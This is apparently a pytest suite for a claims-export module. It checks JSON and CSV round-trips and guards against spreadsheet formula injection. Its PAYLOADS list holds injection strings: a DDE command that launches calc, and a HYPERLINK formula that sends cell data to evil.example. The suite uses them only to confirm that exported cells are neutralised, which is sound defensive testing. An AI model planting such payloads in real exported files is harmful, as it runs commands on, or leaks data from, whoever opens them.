"""JSON, JSON Lines, CSV and TSV: what is written reads back, and no cell runs as a formula."""

import csv
import io
import json

import pytest
from claim_factory import attribution, claim, date_claim, document, measure, voice
from hypothesis import given
from hypothesis import strategies as st

from claimx.export import FLAT_COLUMNS, FORMATS, flat_row, write
from claimx.export.flat import guard, restore_row, unguard
from claimx.export.text import to_json
from claimx.records import Claim

CONTRACT = """id, kind, text, value, low, high, unit, modifier, measure, entities, period, period_first_day,
period_last_day, change, change_from, change_to, change_percent, status, role, source, source_type, cue,
attribution_type, scope, via, reported_by, check_worthiness, confidence, flags, sentence, title, outlet,
published, url, path, article, start, end, figure_id"""
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1",
    "\r=1",
    "'=already",
)


def written(name, claims, **options):
    stream = io.StringIO(newline="")
    count = write(iter(claims), stream, FORMATS[name], **options)
    assert count == len(claims)
    return stream.getvalue()


def rows(text, delimiter=","):
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


def test_columns_are_the_contract():
    assert ", ".join(FLAT_COLUMNS) == " ".join(CONTRACT.split())


def test_flat_row_of_a_figure():
    row = flat_row(claim(attribution=attribution(co_sources=[voice("AFP")], via=[voice("TeamT5")])))
    assert row["value"] == 245_000_000_000
    assert row["change"] == "up to"
    assert row["source"] == "Seth Jones; AFP"
    assert row["via"] == "TeamT5"
    assert row["entities"] == "China; Russia"
    assert row["period"] == "2024"
    assert row["low"] is None


def test_value_of_a_date_is_its_timex():
    assert flat_row(date_claim("2024-Q3"))["value"] == "2024-Q3"


@pytest.mark.parametrize("count", [0, 1, 3])
def test_json_is_one_array_with_a_record_per_line(count):
    text = written("json", [claim()] * count)
    assert len(json.loads(text)) == count
    lines = text.splitlines()
    assert lines == ["[]"] if count == 0 else len(lines) == count + 2


def test_json_is_closed_when_the_claims_end_in_an_error():
    def failing():
        yield claim()
        raise KeyboardInterrupt

    stream = io.StringIO()
    with pytest.raises(KeyboardInterrupt):
        write(failing(), stream, FORMATS["json"])
    assert len(json.loads(stream.getvalue())) == 1


def test_jsonl_reads_back_as_the_same_claims():
    claims = [claim(), date_claim()]
    assert [Claim.model_validate_json(line) for line in written("jsonl", claims).splitlines()] == claims


def test_half_a_surrogate_pair_is_escaped():
    record = claim(document=document(path="caf\udce9.txt"))
    assert json.loads(to_json(record))["document"]["path"] == "caf\udce9.txt"


def test_both_json_paths_spell_numbers_alike():
    odd = claim(document=document(title="\ud800"), value=0.1)
    assert json.loads(to_json(odd))["value"] == 0.1
    assert '"change":{"direction":"up","role":"to","from":190000000000' in to_json(odd)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(("name", "delimiter"), [("csv", ","), ("tsv", "\t")])
def test_no_text_cell_starts_a_formula(payload, name, delimiter):
    hostile = claim(measure=measure(payload), document=document(title=payload), value=-12.5)
    (row,) = rows(written(name, [hostile]), delimiter)
    assert row["title"] == f"'{payload}"
    assert row["measure"] == f"'{payload}"
    assert row["value"] == "-12.5"
    assert restore_row(row) == flat_row(hostile)


@given(st.text())
def test_guard_is_undone_and_guards(text):
    assert unguard(guard(text)) == text
    assert not guard(text).startswith(("=", "+", "-", "@", "\t", "\r"))


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"]), min_size=1))
@pytest.mark.parametrize(("name", "delimiter"), [("csv", ","), ("tsv", "\t")])
def test_any_text_survives(name, delimiter, text):
    record = claim(document=document(title=text, outlet="a\rb"))
    (row,) = rows(written(name, [record]), delimiter)
    assert restore_row(row) == flat_row(record)


def test_excel_gets_a_byte_order_mark_and_crlf():
    text = written("csv", [claim()], excel=True)
    assert text.startswith("\ufeffid,kind")
    assert text.count("\r\n") == 2
    assert "\r" not in written("csv", [claim()])


def test_a_date_value_stays_text():
    (row,) = rows(written("csv", [date_claim("2024")]))
    assert restore_row(row)["value"] == "2024"
